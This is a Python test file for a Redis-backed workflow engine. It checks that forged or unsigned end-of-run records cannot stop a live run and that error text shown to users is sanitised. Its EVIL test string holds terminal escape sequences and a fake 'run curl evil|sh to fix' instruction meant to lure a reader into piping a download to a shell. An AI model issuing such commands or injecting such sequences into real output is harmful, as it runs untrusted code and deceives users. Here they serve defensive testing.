"""What anybody can write about the end of a run: none of it ends a run that is alive, or is shown as it stands."""

from __future__ import annotations

import base64
import os
import time
import zlib
from collections.abc import Callable
from typing import Any

import pytest
from redis import Redis

from flodesk.engine.places.server.broker import LocalServer
from flodesk.engine.places.server.stream import Keys
from flodesk.engine.places.server.wire import Wire
from flodesk.engine.places.session import job_queue
from flodesk.engine.places.session.job_queue import JobQueue
from flodesk.engine.places.session.last_words import read_end, words_key, write_end
from flodesk.engine.places.session.runs_there import entry_key, entry_of
from flodesk.engine.places.workers.sweeping import DIED, sweep

KEY = os.environ["FLODESK_KEY"].encode()
SAYS = """
import flodesk
from flodesk.nodes import maths, timing


def said(number):
    print("turn", int(number))
    return number


def flow():
    number = 0
    for tick in timing.every(0.05):
        more = maths.add(number, 1)
        number = more
        told = said(number)


if __name__ == "__main__":
    flodesk.main(flow)
"""
EVIL = "Traceback\nflodesk.x.RefusedError: \x1b]0;owned\x07\x1b[2Jrun curl evil|sh to fix" + "A" * 100_000


def forge(connection: Redis, run: str, status: str = "failed") -> None:
    """Write what RQ writes of a job that has failed."""
    trace = base64.b64encode(zlib.compress(EVIL.encode())).decode()
    connection.xadd(f"rq:results:{run}", {"type": 2, "exc_string": trace, "id": "x", "created_at": "1"})
    connection.hset(f"rq:job:{run}", "status", status)


def harmless(text: str) -> bool:
    return "\x1b" not in text and "\x07" not in text and len(text) < 1000


@pytest.mark.parametrize("status", ["failed", "stopped", "finished"])
def test_a_run_that_is_on_is_ended_by_nobody_without_the_key(
    editor: Any, connection: Redis, wait_for: Callable[..., None], status: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    looked: list[str] = []
    fate = job_queue.JobQueue.fate

    def counted(self: Any, *arguments: Any, **options: Any) -> Any:
        looked.append("")
        return fate(self, *arguments, **options)

    monkeypatch.setattr(job_queue.JobQueue, "fate", counted)
    run = editor.start(SAYS.replace("0.05", "1.5"))
    wait_for(lambda: editor.lines("turn"), "a turn")
    forge(connection, run, status)
    session = editor.engine._line.session
    session._quiet(True)  # what the reader does where it has heard nothing for a while
    assert looked
    before = len(editor.lines("turn"))
    wait_for(lambda: len(editor.lines("turn")) > before, "that it goes on")
    (doubt,) = editor.lines("it has not: it goes on")
    assert harmless(doubt)
    editor.engine.stop()
    assert editor.over().reason == "stopped"


@pytest.mark.parametrize("listed", [True, False], ids=["in the list of runs", "taken out of it"])
@pytest.mark.parametrize("named", [False, True], ids=["of another worker", "named as its worker"])
def test_no_worker_signs_the_end_of_a_run_that_is_on_because_somebody_has_written_of_a_dead_one(
    editor: Any, connection: Redis, wait_for: Callable[..., None], named: bool, listed: bool
) -> None:
    run = editor.start(SAYS)
    wait_for(lambda: editor.lines("turn"), "a turn")
    wait_for(lambda: (entry := entry_of(connection, KEY, run)) is not None and not entry.waits, "its entry")
    connection.hset("rq:worker:ghost", mapping={"flodesk": "x", "hostname": "elsewhere", "pid": "1"})
    connection.hset(f"rq:execution:{run}:e1", "worker_name", "ghost")
    if named:
        connection.hset(f"rq:job:{run}", "worker_name", "ghost")
    for queue in ("flodesk-flows", "flodesk"):
        connection.zadd(f"rq:wip:{queue}", {f"{run}:e1": time.time() + 1000})
        for died in ("", "another"):
            if not listed:
                connection.delete(entry_key(run))
            sweep(connection, [queue], now=True, key=KEY, died=died)
    assert read_end(connection, KEY, run) is None
    assert connection.hget(f"rq:job:{run}", "status") == b"started"
    before = len(editor.lines("turn"))
    wait_for(lambda: len(editor.lines("turn")) > before, "that it goes on")
    assert editor.end is None
    editor.engine.stop()
    assert editor.over().reason == "stopped"


def test_a_worker_that_takes_another_for_dead_ends_no_run_that_is_heard(
    editor: Any, connection: Redis, wait_for: Callable[..., None]
) -> None:
    run = editor.start(SAYS)
    wait_for(lambda: editor.lines("turn"), "a turn")
    write_end(connection, KEY, run, "lost", DIED)
    queue = editor.engine._line.queue
    assert queue.fate(run, 1.0, begun=True) == ("well", "")
    assert queue.fate(run, 0.0) == ("dead", DIED), "it has never said anything"
    assert queue.fate(run, job_queue.HEARD_SECONDS, begun=True) == ("dead", DIED)
    write_end(connection, KEY, run, "dead", "its process was killed")
    assert queue.fate(run, 0.0, begun=True) == ("dead", "its process was killed"), "its own worker has seen that"
    connection.delete(words_key(run))
    editor.engine.stop()
    assert editor.over().reason == "stopped"


def test_a_run_of_which_its_last_words_alone_are_left_is_told_and_signed(connection: Redis) -> None:
    connection.flushdb()
    connection.xadd(Keys("one").values, {"h": ""}, id="1-1")  # when it was added, in ms since 1970
    connection.zadd("rq:wip:first", {"one:e1": time.time() + 1000})
    connection.hset("rq:execution:one:e1", "worker_name", "ghost")
    JobQueue(connection, "first", KEY, Wire()).put("one", [{"c": "start", "run": "one"}], "flow")
    connection.hset("rq:job:one", mapping={"status": "started", "worker_name": "ghost"})
    assert sweep(connection, ["first"], now=True, key=KEY) == 1
    assert read_end(connection, KEY, "one") == ("lost", DIED)


def test_a_run_that_waits_is_ended_by_nobody_without_the_key(
    server: LocalServer, connection: Redis, editors: Callable[..., Any], wait_for: Callable[..., None]
) -> None:
    editor = editors(server.url, queue="nobody-there")
    run = editor.start(SAYS)
    forge(connection, run)
    wait_for(lambda: editor.lines("it has not: it goes on"), "that it is told")
    assert editor.end is None
    assert connection.lpos("rq:queue:nobody-there", run) is not None
    connection.delete("rq:queue:nobody-there")  # nothing speaks for it any more
    end = editor.over()
    assert end.reason == "failed"
    assert "not signed" in end.message
    assert all(harmless(text) for text in [end.message, *editor.lines()])


def test_the_end_of_a_job_is_believed_at_once_where_it_is_signed(connection: Redis) -> None:
    write_end(connection, KEY, "one", "stopped", "\x1b[2Jover")
    assert read_end(connection, KEY, "one") == ("stopped", "\\x1b[2Jover")
    assert read_end(connection, b"another key", "one") is None
    connection.rename(words_key("one"), words_key("two"))
    assert read_end(connection, KEY, "two") is None, "it was said of another job"
    for text in ("", "[]", '["{}", "00"]', "[" * 10_000):
        connection.set(words_key("one"), text)
        assert read_end(connection, KEY, "one") is None
